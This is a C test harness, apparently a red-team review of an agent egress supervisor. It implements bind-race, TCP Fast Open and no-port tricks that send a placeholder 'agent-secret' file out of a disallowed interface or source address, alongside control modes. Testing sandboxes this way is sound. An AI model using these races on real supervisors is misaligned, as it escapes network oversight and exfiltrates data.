/* ha15-race: hostile review h-attack15 (commit c8ea553). c8ea553 gives a
 * portless DATAGRAM socket its port (bind to the wildcard, port 0) before
 * reading its device, so that a racing failed bind(fe80::dead%IFNAME) gets
 * EINVAL before it writes the scope id into sk_bound_dev_if. Two ways round:
 *
 *   tfo      a TCP socket (give_port skips SOCK_STREAM): a blocking
 *            sendto(::ffff:DEST, MSG_FASTOPEN) is a connect and a send in
 *            one call the supervisor performs; the failed bind lands while
 *            it reads the payload (ha14-mmsg's page-cache timing), the
 *            connect goes out of IFNAME and the whole payload is written to
 *            whoever answers there before the check after the act.
 *   tfomsg   the same with sendmsg(MSG_FASTOPEN).
 *   noport   a UDP socket with IP_BIND_ADDRESS_NO_PORT: give_port's own
 *            bind then assigns no port (__inet6_bind honours the flag for
 *            every protocol), inet_num stays 0, and the racing failed bind
 *            still writes the scope id; sendto(::ffff:DEST) leaves by IFNAME.
 *   udp      control: the same without IP_BIND_ADDRESS_NO_PORT (held by
 *            c8ea553: the racing bind is EINVAL).
 *   tcpplain control: TCP, no race (reaches the declared server).
 *   tcpwin   needs the supervisor's test seam EGRESS_SV_FAULT=device_window
 *            (300 ms between the device check and the act): a blocking
 *            connect(::ffff:DEST) on a TCP socket, the failed bind 150 ms
 *            in, and a second thread write()ing in a loop (write is not
 *            trapped): the handshake goes out of IFNAME, and the writes
 *            between ESTABLISHED and the supervisor's shutdown() carry data.
 *   tfoconn  the same with TCP_FASTOPEN_CONNECT set before the connect.
 *   srcaddr  no race, a false behaviour: an AF_INET UDP socket with
 *            IP_BIND_ADDRESS_NO_PORT bound to 192.0.2.9 port 0 (the script
 *            adds the address to a0), sendto(DEST): give_port's own bind
 *            (state CLOSE, no port: allowed again) resets the source to the
 *            wildcard, and the datagram leaves from 192.0.2.1.
 *   srcport  control: the same bind without IP_BIND_ADDRESS_NO_PORT.
 *
 *   ha15-race MODE DEST:PORT IFNAME FILE   (FILE: created by the agent)
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef IP_BIND_ADDRESS_NO_PORT
#define IP_BIND_ADDRESS_NO_PORT 24
#endif
#ifndef MSG_FASTOPEN
#define MSG_FASTOPEN 0x20000000
#endif

#define PAYLOAD 61440

static int sock;
static unsigned ifindex;
static unsigned char *map;
static volatile int bind_rc = 1, bind_err, polls, timed, stop;
static volatile long wrote, wfail;

static void *racer(void *arg)
{
	struct sockaddr_in6 ll = {.sin6_family = AF_INET6};
	unsigned char vec;
	(void)arg;

	inet_pton(AF_INET6, "fe80::dead", &ll.sin6_addr);
	ll.sin6_scope_id = ifindex;
	if (timed)
		usleep(150 * 1000);
	for (long i = 0; !timed && i < 200000000L; i++) {
		if (mincore(map, 4096, &vec) == 0 && (vec & 1))
			break;
		polls++;
	}
	bind_rc = bind(sock, (struct sockaddr *)&ll, sizeof(ll));
	bind_err = errno;
	return NULL;
}

static void *writer(void *arg)
{
	const char *msg = arg;

	while (!stop) {
		if (write(sock, msg, strlen(msg)) > 0)
			wrote++;
		else
			wfail++;
	}
	return NULL;
}

int main(int argc, char **argv)
{
	struct sockaddr_in6 dst = {.sin6_family = AF_INET6};
	char host[64], dev[IFNAMSIZ + 1] = "", *colon;
	socklen_t dl = sizeof(dev) - 1;
	const char *mode;
	pthread_t t;
	int fd, race, tcp, one = 1;
	long rc;

	if (argc != 5) {
		fprintf(stderr, "usage: ha15-race MODE DEST:PORT IFNAME FILE\n");
		return 2;
	}
	mode = argv[1];
	snprintf(host, sizeof(host), "::ffff:%s", argv[2]);
	colon = strrchr(host, ':');
	*colon = '\0';
	dst.sin6_port = htons((unsigned short)atoi(colon + 1));
	if (inet_pton(AF_INET6, host, &dst.sin6_addr) != 1)
		return 2;
	ifindex = if_nametoindex(argv[3]);
	fd = open(argv[4], O_RDWR | O_CREAT | O_TRUNC, 0600);
	if (fd < 0) {
		perror("agent: open");
		return 2;
	}
	for (int off = 0; off < PAYLOAD; off += 32) {
		char line[33];

		snprintf(line, sizeof(line), "agent-secret via %-14.14s;", mode);
		if (write(fd, line, 32) != 32)
			return 2;
	}
	map = mmap(NULL, PAYLOAD, PROT_READ, MAP_SHARED, fd, 0);
	if (map == MAP_FAILED)
		return 2;
	madvise(map, PAYLOAD, MADV_RANDOM);
	fdatasync(fd);
	posix_fadvise(fd, 0, 0, POSIX_FADV_DONTNEED);
	if (strncmp(mode, "src", 3) == 0) {
		struct sockaddr_in src = {.sin_family = AF_INET}, d4 = {.sin_family = AF_INET};

		sock = socket(AF_INET, SOCK_DGRAM, 0);
		if (strcmp(mode, "srcaddr") == 0 &&
		    setsockopt(sock, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof(one)) != 0)
			perror("agent: IP_BIND_ADDRESS_NO_PORT");
		inet_pton(AF_INET, "192.0.2.9", &src.sin_addr);
		rc = bind(sock, (struct sockaddr *)&src, sizeof(src));
		printf("agent: bind(192.0.2.9:0) = %ld (%s)\n", rc,
		       rc < 0 ? strerror(errno) : "ok");
		d4.sin_port = dst.sin6_port;
		memcpy(&d4.sin_addr, &dst.sin6_addr.s6_addr[12], 4);
		rc = sendto(sock, "agent datagram, source chosen 192.0.2.9", 39, 0,
			    (struct sockaddr *)&d4, sizeof(d4));
		printf("agent: %s sendto = %ld (%s)\n", mode, rc, rc < 0 ? strerror(errno) : "ok");
		usleep(300 * 1000);
		return 0;
	}
	tcp = strncmp(mode, "tfo", 3) == 0 || strncmp(mode, "tcp", 3) == 0;
	timed = strcmp(mode, "tcpwin") == 0 || strcmp(mode, "tfoconn") == 0;
	sock = socket(AF_INET6, tcp ? SOCK_STREAM : SOCK_DGRAM, 0);
	if (strcmp(mode, "noport") == 0 &&
	    setsockopt(sock, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof(one)) != 0)
		perror("agent: IP_BIND_ADDRESS_NO_PORT");
	race = strcmp(mode, "tcpplain") != 0;
	if (race && pthread_create(&t, NULL, racer, NULL) != 0)
		return 2;
	usleep(1000);
	if (timed) {
		pthread_t w[3];
		char msg[64];

		signal(SIGPIPE, SIG_IGN);
		if (strcmp(mode, "tfoconn") == 0 &&
		    setsockopt(sock, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &one, sizeof(one)) != 0)
			perror("agent: TCP_FASTOPEN_CONNECT");
		snprintf(msg, sizeof(msg), "agent-secret via %s;", mode);
		for (int i = 0; i < 3; i++)
			if (pthread_create(&w[i], NULL, writer, msg) != 0)
				return 2;
		rc = connect(sock, (struct sockaddr *)&dst, sizeof(dst));
		printf("agent: connect = %ld (%s)\n", rc, rc < 0 ? strerror(errno) : "ok");
		usleep(100 * 1000);
		stop = 1;
		for (int i = 0; i < 3; i++)
			pthread_join(w[i], NULL);
		printf("agent: writer: %ld writes took, %ld failed\n", wrote, wfail);
		shutdown(sock, SHUT_WR);
	} else if (strcmp(mode, "tfomsg") == 0) {
		struct iovec iov = {.iov_base = map, .iov_len = PAYLOAD};
		struct msghdr m = {
		    .msg_name = &dst, .msg_namelen = sizeof(dst), .msg_iov = &iov, .msg_iovlen = 1};

		rc = sendmsg(sock, &m, MSG_FASTOPEN);
	} else {
		rc = sendto(sock, map, PAYLOAD, tcp ? MSG_FASTOPEN : 0, (struct sockaddr *)&dst,
			    sizeof(dst));
	}
	printf("agent: %s = %ld (%s)\n", mode, rc, rc < 0 ? strerror(errno) : "ok");
	if (race) {
		pthread_join(t, NULL);
		printf("agent: racing bind(fe80::dead%%%s) = %d (%s) after %d polls\n", argv[3],
		       bind_rc, bind_rc ? strerror(bind_err) : "ok", polls);
	}
	getsockopt(sock, SOL_SOCKET, SO_BINDTODEVICE, dev, &dl);
	printf("agent: socket now bound to device '%s'\n", dev);
	usleep(500 * 1000);
	return 0;
}
